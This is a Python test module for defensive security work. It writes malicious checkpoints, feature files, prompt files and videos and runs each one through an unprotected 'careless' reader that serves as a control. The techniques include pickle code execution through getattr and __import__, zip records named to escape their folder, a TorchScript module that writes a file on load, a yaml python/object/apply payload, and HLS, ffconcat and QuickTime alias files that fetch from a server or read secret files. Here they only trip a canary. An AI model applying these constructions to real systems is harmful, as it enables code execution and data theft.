"""Attacks by files: each with how to write it, and with a reader that it does work on.

A reader that nothing protects is the attack's control: where its canary stays silent too, the
attack is none, and that ours survives it shows nothing.
"""

from __future__ import annotations

import io
import os
import pickle
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any, NamedTuple
from unittest import mock

import av
import cv2
import decord
import mmengine
import numpy as np
import open_clip
import torch
import yaml
from bad_media import encode
from canary import Canary
from mmengine.config import Config


class Attack(NamedTuple):
    """``write`` gives the file's content, ``careless`` reads it without protection."""

    write: Callable[[Canary], bytes]
    careless: Callable[[Path], object]


def fires(canary: Canary, read: Callable[[], object]) -> list[str]:
    """What an attack reaches; whether the reader comes to an end afterwards is all the same."""
    assert canary.fired() == []
    try:
        read()
    except Exception as error:
        print(f'{type(error).__name__}: {error}')
    return canary.fired()


# Checkpoints


def zipped(canary: Canary) -> bytes:
    """As torch.save writes it."""
    file = io.BytesIO()
    torch.save({'state_dict': {'a': torch.zeros(1)}, 'more': canary.payload}, file)
    return file.getvalue()


def by_getattr(canary: Canary) -> bytes:
    """Code by way of `getattr`, which MMEngine's own checkpoints ask for."""
    imported = 'c__builtin__\n__import__\n(S"os"\ntR'
    return f'c__builtin__\ngetattr\n({imported}S"mkdir"\ntR(S"{canary.marker}"\ntR.'.encode()


def renamed_record(canary: Canary) -> bytes:
    """A checkpoint whose records are named to lie above the folder, which PyTorch reads as well."""
    source, file = zipfile.ZipFile(io.BytesIO(zipped(canary))), io.BytesIO()
    with zipfile.ZipFile(file, 'w') as target:
        for name in source.namelist():
            target.writestr('../' + name.partition('/')[2], source.read(name))
    return file.getvalue()


class Program(torch.nn.Module):
    """A TorchScript module that writes a file when it is loaded."""

    def __init__(self, path: str) -> None:
        super().__init__()
        self.weight = torch.nn.Parameter(torch.ones(1))
        self.path = path
        self.written = torch.zeros(1)

    @torch.jit.export
    def __getstate__(self):  # type: ignore[no-untyped-def]
        return self.weight, self.path, self.training

    @torch.jit.export
    def __setstate__(self, state: tuple[torch.Tensor, str, bool]) -> None:
        self.weight, self.path, self.training = state[0], state[1], state[2]
        self.written = torch.from_file(self.path, shared=True, size=4).fill_(7.0)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x


def script(canary: Canary) -> bytes:
    """An archive as OpenAI's, with a program that is run by its loading."""
    file = io.BytesIO()
    torch.jit.save(torch.jit.script(Program(str(canary.marker))), file)
    return file.getvalue()


def read_twice(canary: Canary) -> bytes:
    """A pickle that ends PyTorch's careful reading in a TypeError, after which open_clip's is not.

    An object with None for its state: `pickle` takes it, PyTorch's own reader does not.
    """
    return b'\x80\x02ccollections\nOrderedDict\n)RNb0' + canary.pickled[2:]


def all_of_it(path: Path) -> Any:
    return torch.load(path, weights_only=False)


def by_open_clip(path: Path) -> Any:
    with mock.patch.dict(os.environ, {'TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD': '1'}):
        return open_clip.factory.load_state_dict(str(path))


CHECKPOINTS = {
    'pickle in a zip': Attack(zipped, all_of_it),
    'bare pickle': Attack(lambda canary: canary.pickled, all_of_it),
    'getattr': Attack(by_getattr, all_of_it),
    'names that lead out': Attack(renamed_record, all_of_it),
    'TorchScript': Attack(script, torch.jit.load),
    'a pickle that is read twice': Attack(read_twice, by_open_clip),
}
# Where code stands in a checkpoint that a run goes on from, and what has it run.
RESUMED = {
    'meta.config': lambda path: Config.fromstring(torch.load(path)['meta']['config'], '.py'),
    'meta.cfg': lambda path: Config.fromstring(torch.load(path)['meta']['cfg'], '.py'),
    'message_hub': all_of_it,
    'optimizer': all_of_it,
}


# Features, results, prompts


def object_array(canary: Canary) -> bytes:
    file = io.BytesIO()
    np.savez(file, features=np.array([canary.payload], dtype=object), labels=np.zeros(1))
    return file.getvalue()


def object_file(canary: Canary) -> bytes:
    file = io.BytesIO()
    np.save(file, np.array([canary.payload], dtype=object))
    return file.getvalue()


def all_arrays(path: Path) -> Any:
    return dict(np.load(path, allow_pickle=True))


def unpickled(path: Path) -> Any:
    return mmengine.load(str(path), file_format='pkl')


FEATURES = {
    'objects': Attack(object_array, all_arrays),
    'one array': Attack(object_file, all_arrays),
    'pickle': Attack(lambda canary: canary.pickled, all_arrays),
}
PROMPTS = {
    'yaml': Attack(
        lambda c: f'a: !!python/object/apply:builtins.open [{c.marker}, w]'.encode(),
        lambda path: yaml.unsafe_load(path.read_text()),
    ),
    'json': Attack(lambda canary: canary.pickled, unpickled),
    'pkl': Attack(lambda canary: canary.pickled, unpickled),
    'py': Attack(lambda canary: canary.code.encode(), lambda path: Config.fromfile(path)),
}
PICKLE = Attack(lambda canary: canary.pickled, lambda path: pickle.loads(path.read_bytes()))


# Videos

# All that FFmpeg forbids by itself, allowed; as a program may that trusts its files.
EVERYTHING = {
    'protocol_whitelist': 'file,http,tcp,crypto,data,concat',
    'safe': '0',
    'allowed_extensions': 'ALL',
    'enable_drefs': '1',
    'use_absolute_path': '1',
}
MOVIE = encode('mov', 'mpeg4', movflags='faststart')


def hls(*lines: str) -> bytes:
    return '\n'.join(['#EXTM3U', '#EXT-X-TARGETDURATION:1', *lines, '#EXT-X-ENDLIST\n']).encode()


def ffconcat(target: str) -> bytes:
    return f"ffconcat version 1.0\nfile '{target}'\n".encode()


def track_elsewhere(path: str, up: int = 0, down: int = 0) -> bytes:
    """A QuickTime movie whose samples lie in another file, named by an alias.

    Args:
        path: of the other movie, of which the tables of this one are.
        up: how many folders the way there climbs, and 1; 0: it is absolute.
        down: how many names of ``path`` it ends with.
    """
    name = path.encode() + b'\0' * (len(path.encode()) % 2)
    names = struct.pack('>HH', 2, len(name)) + name + b'\xff\xff\0\0'
    # Volume and file name are empty.
    record = bytes(130) + struct.pack('>HH', up, down) + bytes(16) + names
    box = struct.pack('>I4sI', 12 + len(record), b'alis', 0) + record
    place = MOVIE.index(b'dref') + 12
    changed = bytearray(MOVIE[:place] + box + MOVIE[place + 12 :])
    for mark in (b'moov', b'trak', b'mdia', b'minf', b'dinf', b'dref'):
        start = MOVIE.index(mark) - 4
        (size,) = struct.unpack_from('>I', MOVIE, start)
        struct.pack_into('>I', changed, start, size + len(box) - 12)
    return bytes(changed)


def by_decord(path: Path) -> Any:
    """As the host's DecordInit opens a file: all of it, from memory."""
    return decord.VideoReader(io.BytesIO(path.read_bytes()))


def by_opencv(path: Path) -> Any:
    return cv2.VideoCapture(str(path)).read()


def by_pyav(path: Path | str) -> Any:
    with av.open(str(path), options=EVERYTHING) as container:
        return [frame.to_ndarray(format='rgb24') for frame in container.decode(video=0)]


VIDEOS = {
    'HLS to a server': Attack(lambda c: hls('#EXTINF:1,', f'{c.address}/a.ts'), by_decord),
    'HLS to a file': Attack(lambda c: hls('#EXTINF:1,', f'{c.secret}/secret.ts'), by_decord),
    'HLS that climbs': Attack(lambda c: hls('#EXTINF:1,', '../secret/secret.ts'), by_opencv),
    'HLS of playlists': Attack(
        lambda c: f'#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{c.address}/a.m3u8\n'.encode(),
        by_decord,
    ),
    'HLS with a key': Attack(
        lambda c: hls(
            f'#EXT-X-KEY:METHOD=AES-128,URI="{c.address}/key",IV=0x{0:032}', '#EXTINF:1,', 'a.ts'
        ),
        by_decord,
    ),
    'HLS with a header': Attack(
        lambda c: hls(f'#EXT-X-MAP:URI="{c.address}/header"', '#EXTINF:1,', 'a.ts'), by_decord
    ),
    'ffconcat to a server': Attack(lambda c: ffconcat(f'{c.address}/a.ts'), by_pyav),
    'ffconcat to a file': Attack(lambda c: ffconcat(f'{c.secret}/secret.mp4'), by_pyav),
    'ffconcat that climbs': Attack(lambda c: ffconcat('../secret/secret.mp4'), by_pyav),
    'a track in another file': Attack(lambda c: track_elsewhere(f'{c.secret}/secret.mov'), by_pyav),
    'a track that climbs': Attack(lambda c: track_elsewhere('/secret/secret.mov', 2, 2), by_pyav),
}
